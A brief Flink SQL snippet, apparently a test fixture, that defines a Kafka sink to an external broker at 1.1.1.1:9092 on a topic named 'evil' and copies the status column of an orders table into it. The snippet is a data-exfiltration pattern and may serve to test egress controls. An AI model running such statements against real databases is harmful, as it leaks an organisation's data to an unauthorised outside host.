CREATE TABLE outside (status STRING) WITH (
  'connector' = 'kafka', 'topic' = 'evil', 'format' = 'json',
  'properties.bootstrap.servers' = '1.1.1.1:9092',
  'properties.max.block.ms' = '4000');
INSERT INTO outside SELECT status FROM orders;
